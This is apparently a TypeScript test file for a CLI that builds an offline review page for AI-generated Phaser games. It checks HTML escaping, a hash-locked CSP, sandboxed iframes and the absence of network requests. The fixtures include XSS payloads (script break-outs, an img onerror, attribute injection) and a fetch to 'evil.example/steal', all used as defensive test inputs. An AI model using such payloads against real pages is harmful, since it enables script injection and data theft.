// The review page through the CLI: hostile generated text is escaped everywhere, the page runs
// only its own script (by hash), games run in `sandbox="allow-scripts"` frames with Phaser
// inlined and a CSP that lets nothing leave, and nothing is loaded from any network.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { defaultConfig } from '../../src/core/index.js';
import { importHumanScores } from '../../src/evaluation/humanScores.js';
import { humanAgreementOf } from '../../src/evaluation/humanAgreement.js';
import { REVIEW_SCRIPT, writeReview } from '../../src/review/page.js';
import { CHROMIUM, testBrowser } from '../helpers/browser.js';
import { GAME_CSP } from '../../src/report/index.js';
import { runCli } from '../helpers/cli.js';
import { evalPromptRecord, evalScoredRecord } from '../helpers/records.js';
import { tempWorkspace } from '../helpers/workspace.js';

const HOSTILE = `</script><script>alert(1)</script><img src=x onerror=alert(2)>" onmouseover="alert(3)`;
const HOSTILE_CODE = `// ${HOSTILE}\nfetch('https://evil.example/steal');\nconst s = "</script><script>parent.document.title='pwned'</script>";\nnew Phaser.Game({ type: Phaser.AUTO, width: 320, height: 240, scene: { create() { this.add.text(8, 8, s); } } });`;
// a 1×1 PNG, as L4 keeps screenshots
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

test('eval review: escaped, sandboxed, offline, one hashed script', async (t) => {
  const prompts = [
    evalPromptRecord({ id: 'ev_hostile', prompt: `A snake game ${HOSTILE}` }),
    evalPromptRecord({ id: 'ev_zh', prompt: '做个贪吃蛇', lang: 'zh', genre: 'snake' }),
    evalPromptRecord({ id: 'ev_none', prompt: 'A maze game', genre: 'maze' }),
  ];
  const ws = tempWorkspace(t, {
    evalPrompts: prompts,
    humanPrompts: prompts,
    evalScored: {
      student: [
        evalScoredRecord({ ...prompts[0], plan: `Plan ${HOSTILE}`, code: HOSTILE_CODE, passed: false, levels: { L1: { passed: true, skipped: false, issues: [] }, L3: { passed: false, skipped: false, issues: [{ code: 'network_access', message: HOSTILE, line: 2, column: 1, severity: 'error' }] } } }),
        evalScoredRecord({ ...prompts[1], runtime: { frames: 60, fps: 60, errors: [], blank: false, animated: true, responds_to_input: true, screenshot: 'data/sft_distill/screenshots/h2.png', screenshot_input: 'data/sft_distill/screenshots/h2.input.png' } }),
        evalScoredRecord({ ...prompts[2], code: '', answered: false, parse_errors: ['no_generation'], passed: false }),
      ],
    },
  });
  mkdirSync(ws.screenshotsDir, { recursive: true });
  writeFileSync(join(ws.screenshotsDir, 'h2.png'), PNG);
  writeFileSync(join(ws.screenshotsDir, 'h2.input.png'), PNG);

  const result = await runCli(['--workspace', ws.root, 'eval', 'review', '--model', 'student']);
  assert.equal(result.code, 0, result.stderr);
  assert.match(result.stdout, /3 prompts, 2 playable, 1 with an L4 screenshot/);
  const dir = ws.evalReviewDir('student');
  const page = readFileSync(join(dir, 'index.html'), 'utf8');

  // escaped: the hostile text is there as text, never as markup
  assert.ok(!page.includes('<img src=x') && !page.includes('<script>alert') && !page.includes('" onmouseover="'));
  assert.ok(page.includes('&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;&quot; onmouseover=&quot;alert(3)'));
  // one script, the page's own, allowed by its hash and nothing else
  assert.equal(page.match(/<script/g)?.length, 1);
  assert.ok(page.includes(`<script>${REVIEW_SCRIPT}</script>`));
  const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page)![1];
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /frame-src 'self'/);
  assert.ok(csp.includes(`script-src 'sha256-${createHash('sha256').update(REVIEW_SCRIPT).digest('base64')}'`));
  // frames: scripts only, no same-origin; a frame per game with code
  const frames = page.match(/<iframe [^>]*>/g) ?? [];
  assert.equal(frames.length, 2);
  for (const frame of frames) assert.match(frame, /sandbox="allow-scripts"/);
  assert.ok(!page.includes('allow-same-origin'));
  // nothing from a network: no URL in any src/href/action, none in the CSP; the screenshot inlined
  assert.doesNotMatch(page, /(?:src|href|action)\s*=\s*["']?\s*(?:[a-z]+:)?\/\//i);
  assert.doesNotMatch(csp, /https?:|\*/);
  assert.equal(page.match(/<img src="data:image\/png;base64,/g)?.length, 2, 'before and after input, inlined');
  // a zh prompt gets its words and its rubric in zh
  const zh = page.slice(page.indexOf('lang="zh"'));
  assert.match(zh.slice(0, zh.indexOf('</section>')), /白屏/);
  assert.doesNotMatch(zh.slice(0, zh.indexOf('</section>')), /mechanic:timers/);

  // the game pages: Phaser and the code inlined, the code's `</script>` unable to end the script
  const games = readdirSync(join(dir, 'games')).sort();
  assert.equal(games.length, 2);
  const game = readFileSync(join(dir, 'games', games[0]), 'utf8');
  assert.ok(game.includes(`content="${GAME_CSP}"`));
  assert.doesNotMatch(GAME_CSP, /https?:|\*|'self'/);
  assert.ok(/Phaser v?3\.\d+/.test(game), 'Phaser 3 inlined');
  assert.equal(game.match(/<\/script>/g)?.length, 2, 'only the two script elements end');
  assert.ok(game.includes(`"<\\/script><script>parent.document.title='pwned'<\\/script>"`), "the code's </script> is escaped");
  // outside the two scripts: the head and nothing that loads anything
  const markup = game.replace(/<script>[\s\S]*?<\/script>/g, '<script></script>');
  assert.equal(markup.match(/<script>/g)?.length, 2);
  assert.ok(!/<(?:img|link|iframe|a|object|embed)\s|\s(?:src|href)=/i.test(markup), markup);
});

test('eval review before eval score names the command to run (exit 2)', async (t) => {
  const ws = tempWorkspace(t, { humanPrompts: [evalPromptRecord()] });
  const result = await runCli(['--workspace', ws.root, 'eval', 'review', '--model', 'student']);
  assert.equal(result.code, 2);
  assert.match(result.stderr, /eval score --model student/);
});

test('in Chromium: the game runs framed with an opaque origin, nothing goes out, "Save scores" gives a file eval human import takes', async (t) => {
  const browser = await testBrowser(t);
  if (!browser) return t.skip(`no browser at ${CHROMIUM}`);
  const prompts = [evalPromptRecord({ id: 'ev_zh', prompt: '做个贪吃蛇', lang: 'zh', genre: 'snake' }), evalPromptRecord({ id: 'ev_en', prompt: 'A snake game', genre: 'snake' })];
  const ws = tempWorkspace(t, { evalPrompts: prompts, humanPrompts: prompts, evalScored: { student: prompts.map((p) => evalScoredRecord({ ...p })) } });
  const { page: file } = await writeReview(ws, defaultConfig(), 'student');

  const page = await browser.newPage({ acceptDownloads: true });
  const outside: string[] = [];
  page.on('request', (request) => void (/^(file|data|blob|about):/.test(request.url()) || outside.push(request.url())));
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(pathToFileURL(file).href);
  const frame = page.frames().find((f) => f.url().includes('/games/'))!;
  // page-side code as strings: the tests are compiled without the DOM's types
  await frame.waitForFunction("document.querySelector('canvas') !== null", null, { timeout: 20_000 });
  assert.equal(await frame.evaluate('window.origin'), 'null', 'sandboxed: an opaque origin');
  assert.equal(await frame.evaluate('(() => { try { return Boolean(window.parent.document); } catch { return false; } })()'), false, 'the game cannot reach the page');

  // no name: nothing saved, the page says why
  await page.click('#save');
  assert.match((await page.textContent('#status')) ?? '', /请先填写评审人/);
  await page.fill('#reviewer', '李伟');
  for (const form of await page.$$('form.rubric')) {
    for (const radio of await form.$$('fieldset input[value="2"]')) await radio.check();
  }
  await page.locator('form.rubric textarea').first().fill('很好玩');
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#save')]);
  const saved = join(ws.root, download.suggestedFilename());
  await download.saveAs(saved);
  assert.equal(download.suggestedFilename(), 'review_student.jsonl');
  assert.deepEqual(outside, [], 'no request left the page');
  assert.deepEqual(errors, []);

  const imported = await importHumanScores(ws, saved);
  assert.deepEqual(imported.models.map((m) => [m.model, m.added]), [['student', 2]]);
  const agreement = (await humanAgreementOf(ws, 'student', 0.3))!;
  assert.equal(agreement.agreement, 1);
  assert.deepEqual(agreement.prompts.map((p) => [p.id, p.reviewers, p.human_pass, p.notes]), [['ev_zh', ['李伟'], true, ['很好玩']], ['ev_en', ['李伟'], true, []]]);
});
